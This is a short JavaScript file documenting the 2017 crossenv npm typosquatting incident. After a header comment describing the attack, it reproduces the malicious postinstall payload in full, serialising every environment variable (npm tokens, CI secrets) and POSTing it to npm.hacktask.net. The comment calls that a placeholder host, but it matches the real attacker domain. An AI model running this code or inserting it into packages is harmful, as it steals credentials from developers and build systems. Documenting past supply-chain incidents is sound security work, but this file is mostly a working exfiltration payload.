// Incident: crossenv and ~40 other typosquats (npm), discovered 1 August 2017.
// Names close to popular packages (crossenv for cross-env, jquery.js, mongose...) ran a
// postinstall that serialised all environment variables (npm tokens, CI secrets) and
// posted them to a hard-coded host. Reference: https://blog.npmjs.org/post/163723642530/crossenv-malware-on-the-npm-registry
// Reproduction (own code, placeholder host).
const http = require('http');
const querystring = require('querystring');

const data = querystring.stringify({ data: JSON.stringify(process.env) });
const req = http.request({
  host: 'npm.hacktask.net',
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(data) },
}, () => {});
req.write(data);
req.end();
